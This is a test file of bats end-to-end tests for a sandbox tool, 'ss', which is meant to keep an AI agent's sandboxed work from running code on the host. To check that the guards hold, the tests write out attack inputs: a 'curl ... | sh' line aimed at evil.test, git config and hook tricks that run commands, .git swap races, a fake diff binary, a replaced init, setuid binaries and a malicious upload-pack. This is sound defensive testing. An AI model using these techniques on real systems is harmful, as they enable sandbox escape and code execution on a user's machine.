  assert_line "  M run.sh"
  assert_line "  M tool"
  assert_equal "$(stat -c %a "$P/run.sh")" "755"
  assert_equal "$(stat -c %a "$P/tool")" "644"
  # Root in the sandbox: setuid and setgid stay behind; a group bit alone is no change at all.
  in_copy 'sudo -n chmod 6755 tool && chmod g+w run.sh'
  run ss apply ho-app --yes
  assert_success
  assert_line "  M tool"
  refute_line "  M run.sh"
  assert_equal "$(stat -c %a "$P/tool")" "755"
  assert_equal "$(stat -c %a "$P/run.sh")" "755"
  run ss apply ho-app --yes
  assert_success
  assert_output --partial "Nothing to apply"
  in_copy 'sudo -n chmod 755 tool'
}

@test "as root in the sandbox: a diff of its own is never shown; ss diff shows what apply would write" {
  ss apply ho-app --yes --allow-exec --theirs >/dev/null 2>&1 || true
  in_copy 'printf "echo hi\n" > shown.sh'
  ss apply ho-app --yes >/dev/null
  in_copy 'printf "curl -s http://evil.test/x | sh\n" >> shown.sh'
  # The sandbox's diff(1) shows a harmless change instead.
  printf '%s\n' '#!/bin/sh' \
    "printf -- '--- a/shown.sh\\n+++ b/shown.sh\\n@@ -1 +1,2 @@\\n echo hi\\n+# a comment\\n'" \
    'exit 1' >"$BATS_TEST_TMPDIR/fake-diff"
  ss push "$BATS_TEST_TMPDIR/fake-diff" /tmp/fake-diff >/dev/null
  in_sandbox 'sudo -n install -m 755 /tmp/fake-diff /usr/local/bin/diff'
  run ss diff ho-app
  in_sandbox 'sudo -n rm -f /usr/local/bin/diff'
  assert_success
  assert_line "+curl -s http://evil.test/x | sh"
  refute_line "+# a comment"
  run ss apply ho-app --yes
  assert_success
  assert_equal "$(tail -1 "$P/shown.sh")" "curl -s http://evil.test/x | sh"
}

@test "files the host runs on its own: diff marks them, apply brings nothing without --allow-exec, even with --yes" {
  ss apply ho-app --yes --allow-exec --theirs >/dev/null 2>&1 || true
  in_copy 'mkdir -p .claude sub/deep .husky && printf "{\"hooks\":{\"Stop\":[]}}\n" > .claude/settings.json && echo "touch /tmp/ss-envrc-ran" > sub/deep/.envrc && printf "#!/bin/sh\n" > .husky/pre-commit && echo plain > plain.txt && printf "all:\n" > Makefile'
  run ss diff ho-app
  assert_success
  assert_line "# runs on the host: .claude/settings.json (Claude Code (hooks, commands))"
  assert_line "# runs on the host: sub/deep/.envrc (direnv)"
  assert_line "# runs on the host: .husky/pre-commit (husky (git hooks))"
  refute_line --partial "# runs on the host: plain.txt"
  refute_line --partial "# runs on the host: Makefile"
  run --separate-stderr ss apply ho-app --yes
  assert_failure 1
  [[ "$stderr" == *"error: the changes include 3 files the host runs or obeys on its own; nothing was applied"* ]] || { echo "$stderr"; false; }
  [[ "$stderr" == *"sub/deep/.envrc (direnv)"* ]] || { echo "$stderr"; false; }
  [[ "$stderr" == *"hint: apply them too: ss apply ho-app --allow-exec"* ]] || { echo "$stderr"; false; }
  for f in .claude/settings.json sub/deep/.envrc .husky/pre-commit plain.txt Makefile; do
    [ ! -e "$P/$f" ] || { echo "$f was applied"; false; }
  done
  # review.flag adds the user's own.
  ss config set review.flag Makefile >/dev/null
  run ss diff ho-app --stat
  ss config set review.flag "" >/dev/null
  assert_line "# runs on the host: Makefile (review.flag 'Makefile')"
  run ss apply ho-app --yes --allow-exec
  assert_success
  assert_equal "$(cat "$P/sub/deep/.envrc")" "touch /tmp/ss-envrc-ran"
  assert_equal "$(cat "$P/plain.txt")" "plain"
  [ ! -e /tmp/ss-envrc-ran ]
}

@test "a session in a shared project names, on its way out, the files it changed there that the host runs or obeys" {
  ss new ho-shared >/dev/null
  # The first session holds the project's repository (ss's own .git file): nothing to name.
  run --separate-stderr ss ho-shared -- true
  assert_success
  assert_equal "$stderr" ""
  run --separate-stderr ss ho-shared -- sh -c 'mkdir -p .claude && echo "{}" > .claude/settings.json && echo "[core]" > .gitattributes && echo ok > plain.txt'
  assert_success
  assert_equal "${stderr_lines[0]}" "ss: warning: the session changed 2 files in ~/super-sandbox/projects/ho-shared that the host runs or obeys on its own:"
  assert_equal "${stderr_lines[1]}" "  .claude/settings.json (Claude Code (hooks, commands))"
  assert_equal "${stderr_lines[2]}" "  .gitattributes (git (attributes pick filter and diff programs))"
  assert_equal "${stderr_lines[3]}" "hint: read them before git, an editor or an agent opens the folder on the host"
  # A repository made in a subfolder is set aside while the session runs, and said as it ends.
  # (mkdir may look at what it made after the guard moved it, and say so: not the point here.)
  run --separate-stderr ss ho-shared -- sh -c "$INSIDE_WAIT mkdir lib && { mkdir lib/.git 2>/dev/null; true; }; w 'test ! -e lib/.git'"
  assert_success
  assert_equal "${stderr_lines[0]}" "ss: warning: while the session ran, ss set aside what the sandbox put where the host's git reads:"
  assert_regex "${stderr_lines[1]}" "^  set aside a repository that appeared in a shared folder while the sandbox ran: ~/super-sandbox/projects/ho-shared/lib/\.git\.refused-[0-9]+-[0-9a-f]{8}$"
  # Past ten lines: how many more, and where every one of them is.
  run --separate-stderr ss ho-shared -- sh -c "$INSIDE_WAIT for i in \$(seq 12); do mkdir -p m\$i/.git 2>/dev/null; done; w '! ls -d m*/.git >/dev/null 2>&1'"
  assert_success
  assert_equal "${#stderr_lines[@]}" 12
  assert_equal "${stderr_lines[11]}" "  and 2 more, every one in ~/super-sandbox/.ss/sandboxes/$SANDBOX/guard.log"
  # A session that changes none of them says nothing; nor does one that ends in an error.
  run --separate-stderr ss ho-shared -- sh -c 'echo again > plain.txt'
  assert_success
  assert_equal "$stderr" ""
  run --separate-stderr ss ho-shared -- sh -c 'echo hook > .envrc; exit 3'
  assert_failure 3
  assert_equal "${stderr_lines[1]}" "  .envrc (direnv)"
  # Between sessions (ss exec, a process left running): named by the next session's end, apart
  # from what that session changed; then never again.
  run ss exec ho-shared -- sh -c 'echo "{}" > .mcp.json && mkdir -p .vscode && echo "{}" > .vscode/tasks.json'
  assert_success
  # (Change times are a clock tick coarse: what changed in the tick a session starts in counts
  # as the session's.)
  sleep 0.02
  run --separate-stderr ss ho-shared -- sh -c 'echo X=1 > .env'
  assert_success
  assert_equal "${stderr_lines[0]}" "ss: warning: between the last session there and this one, something changed 2 files in ~/super-sandbox/projects/ho-shared that the host runs or obeys on its own (what ran in the sandbox without a session, or you):"
  assert_equal "${stderr_lines[1]}" "  .mcp.json (MCP clients (servers they start))"
  assert_equal "${stderr_lines[2]}" "  .vscode/tasks.json (VS Code (tasks, settings))"
  assert_equal "${stderr_lines[3]}" "ss: warning: the session changed 1 file in ~/super-sandbox/projects/ho-shared that the host runs or obeys on its own:"
  assert_equal "${stderr_lines[4]}" "  .env (dotenv loaders (variables such as NODE_OPTIONS name programs))"
  assert_equal "${#stderr_lines[@]}" 6
  run --separate-stderr ss ho-shared -- true
  assert_success
  assert_equal "$stderr" ""
  # A folder renamed into place keeps its files' own times: they are named with it.
  run ss exec ho-shared -- sh -c 'mkdir -p stage && echo "{}" > stage/tasks.json'
  assert_success
  run --separate-stderr ss ho-shared -- mv stage .zed
  assert_success
  assert_equal "${stderr_lines[0]}" "ss: warning: the session changed 1 file in ~/super-sandbox/projects/ho-shared that the host runs or obeys on its own:"
  assert_equal "${stderr_lines[1]}" "  .zed/tasks.json (Zed (tasks))"
  # A link the host's tools follow to a folder: named every time, ss does not look through it.
  run ss exec ho-shared -- sh -c 'mkdir -p ideadir && ln -s ideadir .idea'
  assert_success
  for _ in 1 2; do
    run --separate-stderr ss ho-shared -- true
    assert_success
    assert_equal "${stderr_lines[0]}" "ss: warning: 1 link in ~/super-sandbox/projects/ho-shared leads to a folder the host's tools obey; ss does not look at what is in it:"
    assert_equal "${stderr_lines[1]}" "  .idea (JetBrains IDEs (run configurations, file watchers))"
  done
  run ss exec ho-shared -- rm .idea
  assert_success
  # The user's repository runs its hooks from a folder of the project (core.hooksPath, as with
  # a hook manager): what the sandbox writes there is named.
  as_owner git --git-dir "$SS_HOME/repositories/ho-shared" config core.hooksPath ./.githooks
  run --separate-stderr ss ho-shared -- sh -c 'mkdir -p .githooks && printf "#!/bin/sh\nexit 0\n" > .githooks/pre-commit'
  assert_success
  assert_equal "${stderr_lines[0]}" "ss: warning: the session changed 1 file in ~/super-sandbox/projects/ho-shared that the host runs or obeys on its own:"
  assert_equal "${stderr_lines[1]}" "  .githooks/pre-commit (git (core.hooksPath))"
  # Such a name made a link to a file of another name: a later change to that file is named.
  run --separate-stderr ss ho-shared -- sh -c 'mkdir -p data && echo "{}" > data/t2.json && ln -s ../data/t2.json .vscode/settings.json'
  assert_success
  assert_equal "${stderr_lines[1]}" "  .vscode/settings.json (VS Code (tasks, settings))"
  run --separate-stderr ss ho-shared -- sh -c 'echo "{\"x\": 1}" > data/t2.json'
  assert_success
  assert_equal "${stderr_lines[0]}" "ss: warning: the session changed 1 file in ~/super-sandbox/projects/ho-shared that the host runs or obeys on its own:"
  assert_equal "${stderr_lines[1]}" "  .vscode/settings.json (VS Code (tasks, settings))"
}

# Every git command of the host that runs what a repository names, in shared project $1's
# folder, with markers under $2: none may appear.
host_git_everything() {
  local d="$SS_HOME/projects/$1" t="$2"
  as_owner git -C "$d" status >/dev/null
  as_owner git -C "$d" diff >/dev/null
  as_owner git -C "$d" log --oneline -3 >/dev/null
  as_owner git -C "$d" -c user.name=h -c user.email=h@h commit -q --allow-empty -m host
  as_owner git -C "$d" checkout -q -b "host-$RANDOM"
  as_owner git -C "$d" checkout -q -
  [ -z "$(ls "$t" | grep pwned)" ] || { ls "$t"; false; }
}

@test "a shared project's repository is out of the sandbox's reach, root's included: what it writes as git settings or hooks never runs on the host; its commits arrive by fetch" {
  t="$BATS_TEST_TMPDIR"
  chmod 777 "$t"
  ss new ho-held >/dev/null
  D="$SS_HOME/projects/ho-held"
  assert_equal "$(cat "$D/.git")" "gitdir: ../../repositories/ho-held"
  [ -f "$SS_HOME/repositories/ho-held/HEAD" ]
  # Root in the sandbox finds the host's repository nowhere.
  marker="held-marker-$RANDOM$RANDOM"
  as_owner git -C "$D" config ss.marker "$marker"
  run in_sandbox "sudo -n grep -rslI $marker /home /mnt /media /srv /workspace /run /tmp /var/tmp 2>/dev/null; true"
  assert_output ""
  # The agent uses git fully, in a repository of the sandbox's own; settings, hooks and hook
  # managers stay there.
  run --separate-stderr ss ho-held -- sh -c "git config core.fsmonitor 'touch $t/pwned-fsmonitor; false' &&
    git config core.hooksPath .hooks && git config core.pager 'touch $t/pwned-pager' &&
    git config alias.st '!touch $t/pwned-alias' && git config diff.external 'touch $t/pwned-diff' &&
    mkdir -p .hooks && printf '#!/bin/sh\ntouch $t/pwned-hook\n' > .hooks/pre-commit && chmod +x .hooks/pre-commit &&
    echo one > one.txt && git add one.txt && git -c user.name=a -c user.email=a@a commit -q --no-verify -m one &&
    echo two > two.txt && git add two.txt && git -c user.name=a -c user.email=a@a commit -q --no-verify -m two"
  assert_success
  [[ "$stderr" == *"Fetched from the sandbox: main: fast-forwarded by 2 commits"* ]] || { echo "$stderr"; false; }
  assert_equal "$(as_owner git -C "$D" log --format=%s -2 | tr '\n' ' ')" "two one "
  # The host's index followed: what the agent committed is not a change on the host.
  run as_owner git -C "$D" status --porcelain --untracked-files=no
  assert_output ""
  run as_owner git -C "$D" config --get core.hooksPath
  assert_failure
  host_git_everything ho-held "$t"
  # Commits made on the host reach the sandbox's repository before its next session.
  run --separate-stderr ss ho-held -- git log --format=%s -1
  assert_output "host"
  # A process left running puts a repository with hooks in the .git file's place whenever ss puts
  # the file back: ss's own git, fetching at the session's end, never follows it.
  run --separate-stderr ss ho-held -- sh -c "git init -q --bare /tmp/evilgit && git --git-dir=/tmp/evilgit config core.bare false &&
    for h in reference-transaction post-merge post-checkout post-rewrite; do printf '#!/bin/sh\ntouch $t/pwned-race-\$0\n' > /tmp/evilgit/hooks/\$h; chmod +x /tmp/evilgit/hooks/\$h; done &&
    git --git-dir=/tmp/evilgit config core.fsmonitor 'touch $t/pwned-race-fsmonitor; false' &&
    echo three > three.txt && git add three.txt && git -c user.name=a -c user.email=a@a commit -q --no-verify -m three &&
    setsid sh -c 'while :; do if [ -f .git ]; then rm -f .git; cp -r /tmp/evilgit .git; fi; sleep 0.005; done' </dev/null >/dev/null 2>&1 &
    sleep 0.3"
  assert_success
  [[ "$stderr" == *"Fetched from the sandbox: main: fast-forwarded by 1 commit"* ]] || { echo "$stderr"; false; }
  in_sandbox "pkill -f 'cp -r /tmp/evilgi[t]' || true"
  assert_equal "$(as_owner git --git-dir="$SS_HOME/repositories/ho-held" log --format=%s -1)" "three"
  run --separate-stderr ss fetch ho-held
  assert_success
  host_git_everything ho-held "$t"
}

@test "a shared project: commits that add a submodule entry stay in sandbox/BRANCH; neither ss's git nor the user's enters the sandbox's repository there" {
  t="$BATS_TEST_TMPDIR"
  chmod 777 "$t"
  ss new ho-sub >/dev/null
  run --separate-stderr ss ho-sub -- sh -c "git update-index --add --cacheinfo 160000,\$(git rev-parse HEAD),sub &&
    git -c user.name=a -c user.email=a@a commit -q --no-verify -m sub &&
    printf '[submodule \"sub\"]\\n\\tpath = sub\\n\\turl = ./sub\\n' > .gitmodules &&
    { git init -q sub; git -C sub config core.fsmonitor 'touch $t/pwned-sub; false'; true; }"
  assert_success
  [[ "$stderr" == *"main: 1 commit left in sandbox/main: its commits add submodule entries: sub"* ]] || { echo "$stderr"; false; }
  host_git_everything ho-sub "$t"
  run --separate-stderr ss fetch ho-sub
  assert_success
  host_git_everything ho-sub "$t"
}

# users_repository PROJECT DIR: a repository of the user's with one commit at DIR (below
# project PROJECT's folder), made on the host while the sandbox is stopped: while it runs, its
# guard sets aside any repository that appears (the user's too), and one started again takes none
# made meanwhile for the user's. The next session starts the sandbox.
users_repository() {
  local top="$SS_HOME/projects/$1"
  ss vm stop --sandbox "$SANDBOX" >/dev/null
  mkdir -p "$top/$2"
  chown -R --reference="$top" "$top/${2%%/*}"
  as_owner git init -q "$top/$2"
  as_owner git -C "$top/$2" -c user.name=h -c user.email=h@h commit -q --allow-empty -m one
}

# guarded DIR N: the .git of shared project folder DIR is ss's file again, and N things at least
# were set aside there, within 2 s (the sandbox's guard on the host does it while the sandbox runs).
guarded() {
  local i
  for i in $(seq 40); do
    if [ "$(cat "$1/.git" 2>/dev/null)" = "gitdir: ../../repositories/${1##*/}" ] &&
      [ "$(find "$1" -maxdepth 1 -name '.git.refused-*' | wc -l)" -ge "$2" ]; then
      return 0
    fi
    sleep 0.05
  done
  ls -la "$1"
  false
}

@test "a shared project's .git replaced from inside by a folder, a file or a link is set aside at once while the sandbox runs, and before the host's git runs there; a repository made inside is set aside, never read" {
  t="$BATS_TEST_TMPDIR"
  chmod 777 "$t"
  ss new ho-swap >/dev/null
  D="$SS_HOME/projects/ho-swap"
  evil="git init -q /tmp/evil && git -C /tmp/evil config core.fsmonitor 'touch $t/pwned-fs; false' && git -C /tmp/evil config core.hooksPath /tmp/evil/hooks"
  # A folder in place of the .git file, made in a session: set aside while the session still
  # runs (the command sees the file back), and said as it ends.
  run --separate-stderr ss ho-swap -- sh -c "$INSIDE_WAIT $evil && rm .git && { cp -r /tmp/evil/.git .git; true; }; w 'test -f .git'"
  assert_success
  [[ "$stderr" == *"project 'ho-swap': set aside a .git folder found in place of the project's .git file: ~/super-sandbox/projects/ho-swap/.git.refused-"* ]] || { echo "$stderr"; false; }
  guarded "$D" 1
  host_git_everything ho-swap "$t"
  # A .git file that leads into the share, written outside any session; then a link: each set
  # aside at once.
  in_sandbox "cd ~/projects/ho-swap && $evil && cp -r /tmp/evil/.git evil-git && printf 'gitdir: evil-git\n' > .git"
  guarded "$D" 2
  host_git_everything ho-swap "$t"
  # (Renamed over the file, never made where the file was taken away: the guard, quicker than
  # the sandbox, may have put the file back there, and QEMU's virtiofs then fails the link.)
  in_sandbox "cd ~/projects/ho-swap && ln -s evil-git link && mv -T link .git"
  guarded "$D" 3
  host_git_everything ho-swap "$t"
  # Nothing at all: put back before the next command runs git there.
  in_sandbox "cd ~/projects/ho-swap && rm .git"
  run --separate-stderr ss ho-swap -- git status --porcelain
  assert_success
  [[ "$stderr" == *"put back the project's .git file, which was gone"* ]] || { echo "$stderr"; false; }
  host_git_everything ho-swap "$t"
  # Root inside cannot make the host's files append-only or immutable (the guard, and the user,
  # could then neither put back nor move them). (The stand-ins of Lima and Lume run the machine
  # as the host's root in namespaces of its own; a VM's root never reaches the host's flags.)
  if [ "$SS_E2E_BACKEND" != lima ] && [ "$SS_E2E_BACKEND" != lume ]; then
    run in_sandbox "cd ~/projects/ho-swap && sudo -n chattr +a . && echo flagged"
    [ "$output" != flagged ] || { lsattr -d "$D"; chattr -a "$D"; false; }
    flags=$(lsattr -d "$D" | cut -d' ' -f1)
    [[ "$flags" != *[ai]* ]] || { echo "$flags"; false; }
  fi
  # Written through a hard link made inside (where the sandbox's kernel allows one): seen on the
  # file itself, whatever its name, and put back.
  run in_sandbox "cd ~/projects/ho-swap && ln .git hard && printf 'gitdir: evil-git\n' > hard && echo linked"
  if [ "$output" = linked ]; then
    guarded "$D" 4
    host_git_everything ho-swap "$t"
  else
    [[ "$output" == *"Operation not permitted"* ]] || { echo "$output"; false; }
    [ "$(cat "$D/.git")" = "gitdir: ../../repositories/ho-swap" ]
  fi
  # With the guard gone (killed on the host), the next command on the project sets aside what the
  # sandbox put there before it runs the host's git; the next session starts the guard again.
  pkill -f "ss-project guard --sandbox $SANDBOX( |\$)"
  in_sandbox "cd ~/projects/ho-swap && printf 'gitdir: evil-git\n' > .git"
  run --separate-stderr ss fetch ho-swap
  assert_success
  [[ "$stderr" == *"set aside a .git file found in place of the project's .git file"* ]] || { echo "$stderr"; false; }
  host_git_everything ho-swap "$t"
  ss ho-swap -- true
  pgrep -f "ss-project guard --sandbox $SANDBOX( |\$)"
  # A repository made inside in a project that had none is set aside, never read on the host (its
  # alternates and common directory would lead the host's git to any repository of the user's,
  # and ss would hand those to the sandbox).
  mkdir "$SS_HOME/projects/ho-plain"
  run --separate-stderr ss ho-plain -- sh -c "$INSIDE_WAIT $evil && echo '$SS_HOME/repositories/ho-swap/objects' > /tmp/evil/.git/objects/info/alternates && { cp -r /tmp/evil/.git .git; true; }; w 'test ! -e .git'"
  assert_success
  [[ "$stderr" == *"set aside a .git folder of a project whose repository ss did not hold (the sandbox may have made it): ~/super-sandbox/projects/ho-plain/.git.refused-"* ]] || { echo "$stderr"; false; }
  [[ "$stderr" == *"if you made it yourself, give it to ss: mv "* ]] || { echo "$stderr"; false; }
  [ ! -e "$SS_HOME/repositories/ho-plain" ]
  [ ! -e "$SS_HOME/projects/ho-plain/.git" ]
  # A .git in the projects folder itself, over every project without one: set aside.
  run --separate-stderr ss ho-plain -- sh -c "$INSIDE_WAIT cd ~/projects && { cp -r /tmp/evil/.git .git; true; }; w 'test ! -e .git'"
  assert_success
  [[ "$stderr" == *"set aside a repository that appeared in a shared folder while the sandbox ran: ~/super-sandbox/projects/.git.refused-"* ]] || { echo "$stderr"; false; }
  run as_owner git -C "$SS_HOME/projects/ho-plain" status
  assert_failure
  [ -z "$(ls "$t" | grep pwned)" ]
  # A project's folder replaced by a link to another repository of the host's: never followed,
  # nothing of it taken in (it would reach the sandbox with the next session).
  secret="$E2E_ROOT/secret-repo"
  as_owner git init -q "$secret"
  as_owner git -C "$secret" -c user.name=h -c user.email=h@h commit -q --allow-empty -m secret
  mkdir "$SS_HOME/projects/ho-link"
  in_sandbox "cd ~/projects && mv ho-link ho-link-away && ln -s '$secret' ho-link"
  for cmd in "fetch ho-link" "ho-link -- true"; do
    run --separate-stderr ss $cmd
    assert_failure
    [ ! -e "$SS_HOME/repositories/ho-link" ] || { echo "$cmd: $stderr"; false; }
  done
  [ -d "$secret/.git" ]
}

@test "a repository of the user's in a shared project's subfolder, there when the guard started, stays while the agent commits in it; once its settings change, it is set aside whole" {
  t="$BATS_TEST_TMPDIR"
  chmod 777 "$t"
  ss new ho-nest >/dev/null
  N="$SS_HOME/projects/ho-nest/vendor/lib"
  users_repository ho-nest vendor/lib
  run --separate-stderr ss ho-nest -- sh -c "$INSIDE_WAIT cd vendor/lib && git -c user.name=a -c user.email=a@a commit -q --allow-empty -m two && sleep 0.5 && test -d .git &&
    git config core.fsmonitor 'touch $t/pwned-nest; false'; w 'test ! -e .git'"
  assert_success
  [[ "$stderr" == *"set aside a repository whose config changed while the sandbox ran: ~/super-sandbox/projects/ho-nest/vendor/lib/.git.refused-"* ]] || { echo "$stderr"; false; }
  as_owner git -C "$N" status >/dev/null
  # A submodule's settings, written from inside: the repository is set aside whole too.
  users_repository ho-nest vendor/lib
  rm -rf "$N/.git.refused-"*
  as_owner mkdir -p "$N/.git/modules/sub"
  as_owner git init -q --bare "$N/.git/modules/sub"
  run --separate-stderr ss ho-nest -- sh -c "$INSIDE_WAIT git config -f vendor/lib/.git/modules/sub/config core.pager 'touch $t/pwned-sub'; w 'test ! -e vendor/lib/.git'"
  assert_success
  [[ "$stderr" == *"set aside a repository whose config changed while the sandbox ran: ~/super-sandbox/projects/ho-nest/vendor/lib/.git.refused-"* ]] || { echo "$stderr"; false; }
  [ -z "$(ls "$t" | grep pwned)" ]
}

@test "a guard started again while the sandbox ran, or with it after the guard had ended, takes no repository made meanwhile for the user's; those there when the sandbox started stay" {
  t="$BATS_TEST_TMPDIR"
  chmod 777 "$t"
  ss new ho-again >/dev/null
  U="$SS_HOME/projects/ho-again/mine"
  users_repository ho-again mine
  ss ho-again -- true
  # The guard gone (killed on the host): the sandbox makes a repository, and changes the user's.
  pkill -f "ss-project guard --sandbox $SANDBOX( |\$)"
  in_sandbox "cd ~/projects/ho-again && mkdir made && git init -q made && git -C made config core.fsmonitor 'touch $t/pwned-again; false' && cp /bin/sh made/suid && chmod 4755 made/suid"
  run --separate-stderr ss ho-again -- true
  assert_success
  pgrep -f "ss-project guard --sandbox $SANDBOX( |\$)"
  # What was made setuid meanwhile loses the bit.
  assert_equal "$(stat -c %a "$SS_HOME/projects/ho-again/made/suid")" 755
  grep -qF "took the setuid and setgid bits off a file the sandbox gave them (on the host it would run as you for anyone who can reach it): ~/super-sandbox/projects/ho-again/made/suid" "$SS_HOME/.ss/sandboxes/$SANDBOX/guard.log"
  [[ "$stderr" == *"the guard of the folders sandbox '$SANDBOX' shares had stopped while it ran; started again, it sets aside what appeared there meanwhile"* ]] || { echo "$stderr"; false; }
  [[ "$stderr" == *"set aside a repository that appeared or changed in a shared folder while the sandbox ran unwatched: ~/super-sandbox/projects/ho-again/made/.git.refused-"* ]] || { echo "$stderr"; false; }
  [ ! -e "$SS_HOME/projects/ho-again/made/.git" ]
  [ -d "$U/.git" ]
  as_owner git -C "$U" status >/dev/null
  pkill -f "ss-project guard --sandbox $SANDBOX( |\$)"
  in_sandbox "git -C ~/projects/ho-again/mine config core.pager 'touch $t/pwned-again'"
  run --separate-stderr ss ho-again -- true
  assert_success
  [[ "$stderr" == *"set aside a repository that appeared or changed in a shared folder while the sandbox ran unwatched: ~/super-sandbox/projects/ho-again/mine/.git.refused-"* ]] || { echo "$stderr"; false; }
  [ ! -e "$U/.git" ]
  # The guard gone, then the sandbox stopped and started: the guard that starts with it still
  # compares with the record, so what was made while nothing watched is not taken for the user's.
  pkill -f "ss-project guard --sandbox $SANDBOX( |\$)"
  in_sandbox "cd ~/projects/ho-again && mkdir late && git init -q late && git -C late config core.fsmonitor 'touch $t/pwned-again; false' && cp /bin/sh late/sgid && chmod 2755 late/sgid"
  ss vm stop --sandbox "$SANDBOX" >/dev/null
  run --separate-stderr ss ho-again -- true
  assert_success
  assert_equal "$(stat -c %a "$SS_HOME/projects/ho-again/late/sgid")" 755
  [[ "$stderr" == *"set aside a repository that appeared or changed in a shared folder while the sandbox ran unwatched: ~/super-sandbox/projects/ho-again/late/.git.refused-"* ]] || { echo "$stderr"; false; }
  [ ! -e "$SS_HOME/projects/ho-again/late/.git" ]
  as_owner git -C "$SS_HOME/projects/ho-again/late" status >/dev/null 2>&1 || true
  [ -z "$(ls "$t" | grep pwned)" ]
}

@test "what the sandbox's own start makes in a shared folder is set aside: the guard watches before the sandbox boots" {
  case "$SS_E2E_BACKEND" in
    lima | lume) skip "the stand-ins start the image's sshd, not its init: nothing of the sandbox's runs before it" ;;
  esac
  ss new ho-boot >/dev/null
  ss ho-boot -- true
  # Root inside puts its own program first in the next boot, before the sandbox's init: it makes
  # a repository as soon as the folder is there (at once in a container), puts init back, and
  # runs it.
  printf '%s\n' '#!/bin/sh' \
    "( for i in \$(seq 600); do [ -d /home/sandbox/projects/ho-boot ] && break; sleep 0.1; done; setpriv --reuid=sandbox --regid=sandbox --init-groups mkdir -p /home/sandbox/projects/ho-boot/boot/.git/hooks ) &" \
    'mv /sbin/init.real /sbin/init 2>/dev/null' '[ -e /sbin/init.real ] && exec /sbin/init.real "$@"' \
    'exec /sbin/init "$@"' \
    > "$BATS_TEST_TMPDIR/init"
  ss push "$BATS_TEST_TMPDIR/init" /tmp/ho-init >/dev/null
  in_sandbox "sudo -n mv /sbin/init /sbin/init.real && sudo -n install -m 755 /tmp/ho-init /sbin/init"
  ss vm stop --sandbox "$SANDBOX" >/dev/null
  run --separate-stderr ss ho-boot -- sh -c "$INSIDE_WAIT w 'test -d boot && test ! -e boot/.git'"
  in_sandbox "if [ -e /sbin/init.real ]; then sudo -n mv /sbin/init.real /sbin/init; fi"
  assert_success
  [ ! -e "$SS_HOME/projects/ho-boot/boot/.git" ]
  [ -n "$(find "$SS_HOME/projects/ho-boot/boot" -maxdepth 1 -name '.git.refused-*')" ]
  # Said by the session that started it (what the guard did before it began).
  [[ "$stderr" == *"set aside a repository that appeared in a shared folder while the sandbox ran: ~/super-sandbox/projects/ho-boot/boot/.git.refused-"* ]] || { echo "$stderr"; false; }
}

@test "fetch: nothing of the sandbox's git runs on the host, whatever its repository says; a bad pack or object is refused whole" {
  t="$BATS_TEST_TMPDIR"
  hgit() { as_owner git -C "$P" "$@"; }
  ss exec ho-app -- true
  # The agent's repository asks for everything that makes a git run a program, on a branch of its
  # own whose commit brings attributes that name its drivers.
  in_copy "git checkout -q -b agent && git config core.fsmonitor 'touch $t/pwned; false' &&
    git config core.pager 'touch $t/pwned; cat' && git config core.hooksPath .git/hooks &&
    git config alias.st '!touch $t/pwned' && git config diff.external '/bin/sh -c \"touch $t/pwned\"' &&
    git config filter.evil.smudge 'touch $t/pwned; cat' && git config filter.evil.clean 'touch $t/pwned; cat' &&
    git config uploadpack.packObjectsHook 'touch $t/pwned;' &&
    for h in reference-transaction post-checkout post-merge pre-commit post-index-change; do
      printf '#!/bin/sh\ntouch $t/pwned\n' > .git/hooks/\$h && chmod +x .git/hooks/\$h; done &&
    echo '* filter=evil diff=evil' > .gitattributes && git add .gitattributes &&
    git -c core.hooksPath=/dev/null -c user.name=a -c user.email=a@s commit -q -m attributes"
  run ss fetch ho-app
  assert_success
  assert_line "agent: new in the sandbox, 1 commit: sandbox/agent"
  # The host's git, on everything it does with what came, runs nothing of the sandbox's.
  as_owner sh -c "cd '$P' && git status >/dev/null && git diff main sandbox/agent >/dev/null &&
    git log -p -2 sandbox/agent >/dev/null && git checkout -q sandbox/agent && git status >/dev/null &&
    git checkout -q main && git branch -q taken sandbox/agent && git branch -q -D taken"
  assert_not_exists "$t/pwned"
  before=$(hgit for-each-ref --format='%(refname) %(objectname)')
  # A tree with a .git in it: refused by the host's object checks, nothing moves.
  in_copy "b=\$(echo evil | git hash-object -w --stdin) && tr=\$(printf '100644 blob %s\t.git\n' \$b | git mktree) &&
    c=\$(git -c user.name=a -c user.email=a@s commit-tree \$tr -p HEAD -m dotgit) &&
    git -c core.hooksPath=/dev/null update-ref refs/heads/agent \$c"
  run --separate-stderr ss fetch ho-app
  assert_failure 255
  assert_equal "${stderr_lines[0]}" "ss-sync: error: cannot fetch the commits of the working copy of ho-app"
  [[ "$stderr" == *"hasDotgit"* ]] || { echo "$stderr"; false; }
  assert_equal "$(hgit for-each-ref --format='%(refname) %(objectname)')" "$before"
  in_copy 'git -c core.hooksPath=/dev/null update-ref refs/heads/agent HEAD~1'
  # A branch the host has not taken yet: each fetch below asks the sandbox's upload-pack (one that
  # lists nothing new is not asked).
  in_copy 'git -c core.hooksPath=/dev/null update-ref refs/heads/offer HEAD'
  # An upload-pack of its own that answers garbage, escapes included: the same.
  in_sandbox 'sudo -n tee /usr/local/bin/git-upload-pack >/dev/null && sudo -n chmod 755 /usr/local/bin/git-upload-pack' <<'SH'
#!/bin/sh
printf '0041ffffffffffffffffffffffffffffffffffffffff refs/heads/main\033[2J\n'
printf '\033[31mred\033]0;title\007\n' >&2
head -c 100000 /dev/urandom
SH
  run --separate-stderr ss fetch ho-app
  assert_failure 255
  [[ "$stderr" != *$'\e'* ]] || { echo "an escape reached the terminal"; false; }
  assert_equal "$(hgit for-each-ref --format='%(refname) %(objectname)')" "$before"
  # One that says nothing: the fetch ends, nothing moved, at the deadline (60 s; 3 here).
  in_sandbox 'printf "#!/bin/sh\nexec sleep 600\n" | sudo -n tee /usr/local/bin/git-upload-pack >/dev/null'
  SS_FETCH_SILENT_SECONDS=3 run --separate-stderr timeout 60 ss fetch ho-app
  assert_failure 255
  [[ "$stderr" == *"the sandbox's git-upload-pack sent nothing for 3 s"* ]] || { echo "$stderr"; false; }
  assert_equal "$(hgit for-each-ref --format='%(refname) %(objectname)')" "$before"
  in_sandbox 'sudo -n rm -f /usr/local/bin/git-upload-pack'
  # More branches than a fetch takes: nothing moved.
  in_copy 'for i in $(seq 1001); do echo "create refs/heads/many/$i HEAD"; done | git -c core.hooksPath=/dev/null update-ref --stdin'
  run --separate-stderr ss fetch ho-app
  assert_failure 255
  [[ "$stderr" == *"the sandbox's repository has more than 1000 branches"* ]] || { echo "$stderr"; false; }
  assert_equal "$(hgit for-each-ref --format='%(refname) %(objectname)')" "$before"
  # The same in protocol 2, whose refs come after a flush (the host's git would follow it): an
